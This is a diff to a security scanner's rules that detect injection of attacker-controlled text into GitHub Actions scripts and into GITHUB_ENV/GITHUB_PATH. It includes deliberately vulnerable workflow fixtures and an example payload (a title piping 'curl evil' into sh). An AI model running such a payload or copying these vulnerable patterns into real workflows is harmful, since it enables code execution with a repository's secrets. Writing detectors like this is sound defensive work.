@@ -3,7 +3,7 @@ import { SIGNATURE_DISABLED, TLS_DISABLED, scriptMatches } from '../script-check
 import { isLiteralSecretValue, isSecretName } from '../secret-names.js';
 import { pipeToShellOffsets } from '../shell.js';
 import { get, isTrue, isYMap, isYScalar, isYSeq, items, pair, text, type YMap, type YNode, type YScalar } from '../yaml/tree.js';
-import { taintOf, taintedVariable, untrustedSource, worst } from './taint.js';
+import { githubScriptTaint, taintOf, taintedVariable, untrustedSource, worst } from './taint.js';
 import { mayYield, parseExpression } from './expression.js';
 import { GATED, alwaysTrueCondition, dangerousTrigger, spoofableBotCheck } from './condition-rules.js';
 import { runsFor, weakestGate } from './gates.js';
@@ -88,7 +88,7 @@ const templateInjection = workflowRule({
   id: 'iac/gha-template-injection',
   title: 'Attacker-controlled input expanded into a script',
   description:
-    "A `${{ }}` expression inserts text an outsider controls (an issue or pull request title or body, a branch name, a commit message, a comment) into a `run:` script or a github-script `script:`. The expression is expanded before the shell or JavaScript runs, so a title like `\"; curl evil | sh; echo \"` becomes code running with the workflow's token and secrets. Critical in a workflow that runs with privileges on outsiders' events, high when a gate stands in front of the step (a label only maintainers add, a permission or author_association check, a deployment environment, an `if:` that keeps forks out) and in other workflows.",
+    "A `${{ }}` expression inserts text an outsider controls (an issue or pull request title or body, a branch name, a commit message, a comment) into a `run:` script or a github-script `script:`, directly or through an earlier step's output (a shell or github-script step that wrote such text, a file of a fork's artifacts, to an output). The expression is expanded before the shell or JavaScript runs, so a title like `\"; curl evil | sh; echo \"` becomes code running with the workflow's token and secrets. Critical in a workflow that runs with privileges on outsiders' events, high when a gate stands in front of the step (a label only maintainers add, a permission or author_association check, a deployment environment, an `if:` that keeps forks out) and in other workflows.",
   remediation: 'Pass the value through an environment variable and quote it in the script: `env: TITLE: ${{ github.event.issue.title }}` then `echo "$TITLE"` (in github-script, read context.payload instead).',
   severity: 'high',
   cwe: ['CWE-94', 'CWE-78'],
@@ -109,6 +109,9 @@ const templateInjection = workflowRule({
       'name: notify\non:\n  workflow_call:\n    inputs:\n      title:\n        type: string\n        required: true\npermissions: {}\njobs:\n  post:\n    runs-on: ubuntu-latest\n    steps:\n      # expect\n      - run: ./notify.sh "${{ inputs.title }}"\n',
       // An expression broken across the lines of a folded block: the detail is the line where it starts.
       workflow('      # expect\n      - run: >\n          ./tool init --out=Default\n          # detail\n          --title ${{\n          github.event.issue.title }} --remote\n', 'issues'),
+      // A github-script step returns a file of the triggering run's artifacts: its `result` output is the fork's text.
+      workflow("      - uses: actions/download-artifact@fa0a91b85d4f404e444e00e005971372dc801d16 # v4.1.8\n        with:\n          name: pr\n          run-id: ${{ github.event.workflow_run.id }}\n          github-token: ${{ github.token }}\n      - id: pr\n        uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1\n        with:\n          result-encoding: string\n          script: |\n            const fs = require('fs');\n            return fs.readFileSync('./pr_number', 'utf8').trim();\n      # expect\n      - run: gh pr comment ${{ steps.pr.outputs.result }} --body 'Preview ready'\n", 'workflow_run'),
+      workflow("      - id: pr\n        uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1\n        with:\n          script: |\n            const { head } = context.payload.pull_request;\n            core.setOutput('branch', head.ref);\n      # expect\n      - run: ./deploy-preview.sh ${{ steps.pr.outputs.branch }}\n", 'pull_request_target'),
     ],
     negative: [
       workflow('      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: echo "$TITLE"\n', 'issues'),
@@ -122,6 +125,8 @@ const templateInjection = workflowRule({
       workflow('      - id: meta\n        env:\n          TITLE: ${{ github.event.issue.title }}\n        run: |\n          echo "number=${{ github.event.issue.number }}" >> "$GITHUB_OUTPUT"\n          ./check-title.sh "$TITLE"\n      - run: ./label.sh "${{ steps.meta.outputs.number }}"\n', 'issues'),
       // The head sha of the pull request is a hash.
       workflow('      - id: branch\n        uses: xt0rted/pull-request-comment-branch@e8b8daa837e8ea7331c0003c9c316a64c6d8b0b1 # v3.0.0\n      - run: git fetch origin "${{ steps.branch.outputs.head_sha }}"\n', 'issue_comment'),
+      // A number read from the artifact, or the pull request's number and head sha, cannot carry code.
+      workflow("      - uses: actions/download-artifact@fa0a91b85d4f404e444e00e005971372dc801d16 # v4.1.8\n        with:\n          name: pr\n          run-id: ${{ github.event.workflow_run.id }}\n          github-token: ${{ github.token }}\n      - id: pr\n        uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1\n        with:\n          script: |\n            const fs = require('fs');\n            core.setOutput('number', Number(fs.readFileSync('./pr_number', 'utf8')));\n            core.setOutput('sha', context.payload.workflow_run.head_sha);\n      - run: gh pr comment ${{ steps.pr.outputs.number }} --body 'Built ${{ steps.pr.outputs.sha }}'\n", 'workflow_run'),
       // A boolean or number input of a reusable workflow cannot carry code.
       'name: build\non:\n  workflow_call:\n    inputs:\n      debug:\n        type: boolean\n      jobs:\n        type: number\npermissions: {}\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make -j${{ inputs.jobs }} DEBUG=${{ inputs.debug }}\n',
     ],
@@ -532,7 +537,7 @@ const githubEnvInjection = workflowRule({
   id: 'iac/gha-github-env-injection',
   title: 'Untrusted data written to GITHUB_ENV or GITHUB_PATH',
   description:
-    'A script writes data an outsider controls into $GITHUB_ENV or $GITHUB_PATH. Every later step then runs with attacker-chosen environment variables (LD_PRELOAD, NODE_OPTIONS, BASH_ENV) or PATH entries: code execution with the job\'s token and secrets.',
+    'A script writes data an outsider controls into $GITHUB_ENV or $GITHUB_PATH (in github-script, with core.exportVariable or core.addPath). Every later step then runs with attacker-chosen environment variables (LD_PRELOAD, NODE_OPTIONS, BASH_ENV) or PATH entries: code execution with the job\'s token and secrets.',
   remediation: 'Do not write untrusted values to GITHUB_ENV/GITHUB_PATH; if a value must flow between steps, use step outputs and validate it against a strict pattern first.',
   severity: 'high',
   cwe: ['CWE-77'],
@@ -540,17 +545,34 @@ const githubEnvInjection = workflowRule({
     positive: [
       workflow('      - env:\n          TITLE: ${{ github.event.issue.title }}\n        # expect\n        run: |\n          # detail\n          echo "TITLE=$TITLE" >> $GITHUB_ENV\n', 'issues'),
       workflow('      - uses: actions/download-artifact@fa0a91b85d4f404e444e00e005971372dc801d16 # v4.1.8\n      # expect\n      - run: |\n          # detail\n          echo "PR=$(cat pr.txt)" >> "$GITHUB_ENV"\n', 'workflow_run'),
+      workflow("      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1\n        with:\n          # expect\n          script: core.exportVariable('TITLE', context.payload.issue.title)\n", 'issues'),
     ],
     negative: [
       workflow('      - run: echo "SHA=${{ github.sha }}" >> $GITHUB_ENV\n', 'issues'),
       workflow('      - run: echo "$HOME/bin" >> $GITHUB_PATH\n', 'push'),
+      workflow("      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1\n        with:\n          script: core.exportVariable('ISSUE', String(context.payload.issue.number))\n", 'issues'),
       // A commented-out line writes nothing.
       workflow('      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: |\n          ./triage.sh\n          # echo "TITLE=$TITLE" >> "$GITHUB_ENV"\n', 'issues'),
     ],
   },
   *check(wf) {
     for (const { step, scalar, keyLine, kind } of scriptsOf(wf)) {
-      if (kind !== 'run') continue;
+      if (kind !== 'run') {
+        // core.exportVariable / core.addPath in github-script: the same files, written by the toolkit.
+        if (!isAction(step, 'actions/github-script')) continue;
+        for (const write of githubScriptTaint(wf, step, taintOf(wf, step))) {
+          if (write.kind === 'output') continue;
+          const at = inside(keyLine, lineOfOffset(wf, scalar, write.offset, keyLine));
+          const capped = write.source.severity !== undefined;
+          yield {
+            ...at,
+            message: `${stepLabel(step)} writes ${capped ? write.source.text : `attacker-controlled text (${write.source.text.replace(/ \(.*$/, '')})`} to ${write.kind === 'path' ? 'GITHUB_PATH' : 'GITHUB_ENV'} with ${write.call}${detailNote(at)}.`,
+            resource: stepLabel(step),
+            ...(capped ? { severity: write.source.severity } : {}),
+          };
+        }
+        continue;
+      }
       const taint = taintOf(wf, step);
       const script = scalar.value as string;
       const downloaded = wf.triggers.has('workflow_run') || step.job.steps.some((s) => isAction(s, 'actions/download-artifact') || isAction(s, 'dawidd6/action-download-artifact'));
